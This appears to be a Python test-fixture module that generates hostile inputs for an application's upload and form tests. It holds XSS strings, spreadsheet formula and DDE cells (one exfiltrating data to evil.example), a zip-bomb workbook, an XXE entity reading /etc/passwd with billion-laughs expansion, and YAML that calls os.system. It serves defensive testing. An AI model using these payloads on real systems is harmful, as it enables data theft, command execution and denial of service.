"""What users and attackers type and upload: script payloads, spreadsheet formulas, hostile
workbooks, CSV and YAML. Built here once, thrown at every entry point by the tests beside it."""

from __future__ import annotations

import io
import itertools
import zipfile

from markupsafe import escape
from openpyxl import Workbook

_n = itertools.count(1)


def script(label: str = "") -> str:
    """A payload that breaks out of an attribute and opens a script (24–30 characters)."""
    return f"\"'><script>xss{label or next(_n)}</script>"


def escaped(payload: str) -> str:
    """How Jinja's autoescaping writes `payload` into a page."""
    return str(escape(payload))


def assert_rendered_escaped(html: str, payloads: dict[str, str], where: str) -> None:
    """Every payload is on the page, escaped, and no payload's markup survived anywhere."""
    for field, payload in payloads.items():
        raw_tag = payload[payload.index("<script>") :]
        assert raw_tag not in html, f"{field}: raw <script> on {where}"
        assert escaped(payload) in html, f"{field}: not shown (escaped) on {where}"


# Cells a spreadsheet would run: a formula, DDE, a hyperlink exfiltration, arithmetic.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_inert(value: object) -> bool:
    """A spreadsheet cell value that no spreadsheet evaluates: not text starting like a formula."""
    return not (isinstance(value, str) and value.startswith(FORMULA_STARTS))


# --- hostile workbooks ----------------------------------------------------------------------------


def workbook_bytes(rows: list[list[object]], *, title: str = "Sheet") -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, replace: dict[str, bytes], *, level: int = 9) -> bytes:
    """The same xlsx with some parts replaced (or added), recompressed."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
        for name, content in replace.items():
            if name not in source.namelist():
                target.writestr(name, content)
    return buffer.getvalue()


def bomb_workbook(data: bytes, *, unpacked_mb: int = 300) -> bytes:
    """`data` with a sheet part that inflates to `unpacked_mb` MB of XML but zips to well under
    1 MB: an xlsx is a zip, and a reader that inflates it runs out of memory."""
    filler = b"<!--" + b" " * (unpacked_mb * 1024 * 1024) + b"-->"
    part = "xl/worksheets/sheet1.xml"
    archive = zipfile.ZipFile(io.BytesIO(data))
    sheet = archive.read(part) if part in archive.namelist() else b"<worksheet><sheetData/>"
    head, _, tail = sheet.partition(b"<sheetData")
    return rezip(data, {part: head + filler + b"<sheetData" + tail})


ENTITIES = (
    b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
    b'<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
    b'<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
    b'<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">'
    b'<!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]>'
)


def entity_workbook(data: bytes, cell_text: str, *, sheet: int = 1) -> bytes:
    """`data` whose sheet declares an external entity (XXE: /etc/passwd) and an exponential
    expansion (billion laughs), and uses both in the cell that held `cell_text`."""
    part = f"xl/worksheets/sheet{sheet}.xml"
    xml = zipfile.ZipFile(io.BytesIO(data)).read(part)
    target = f"<t>{cell_text}</t>".encode()
    assert target in xml, f"{cell_text!r} is not an inline string of {part}"
    xml = xml.replace(target, b"<t>&xxe;&f;</t>", 1)
    if xml.startswith(b"<?xml"):
        declaration, _, rest = xml.partition(b"?>")
        xml = declaration + b"?>" + ENTITIES + rest
    else:
        xml = ENTITIES + xml
    return rezip(data, {part: xml})


def not_a_workbook() -> dict[str, bytes]:
    """Files that claim to be workbooks and are not, by name or by the first bytes."""
    return {
        "truncated zip": workbook_bytes([["a"]])[:300],
        "zip without a workbook": _zip({"hello.txt": b"hello"}),
        "PDF renamed": b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
        "HTML renamed": b"<html><body><script>alert(1)</script></body></html>",
        "binary noise": bytes(range(256)) * 8,
    }


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


# --- hostile YAML ---------------------------------------------------------------------------------

YAML_BILLION_LAUGHS = b"""key: laughs
version: 1
title: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: [*c,*c,*c,*c,*c,*c,*c,*c,*c]
sections: []
"""
YAML_PYTHON_TAG = b"""key: !!python/object/apply:os.system ["echo owned"]
version: 1
title: x
sections: []
"""
YAML_DEEP = b"a: " + b"[" * 5000 + b"]" * 5000 + b"\n"
YAML_DUPLICATE = b"""key: dup
key: dup2
version: 1
title: Duplicate keys
sections: []
"""
YAML_TABS = b"key: tabs\n\tversion: 1\n"
YAML_NOT_UTF8 = "key: café\nversion: 1\ntitle: Überblick\n".encode("latin-1")
YAML_NOT_A_MAPPING = b"- just\n- a list\n"
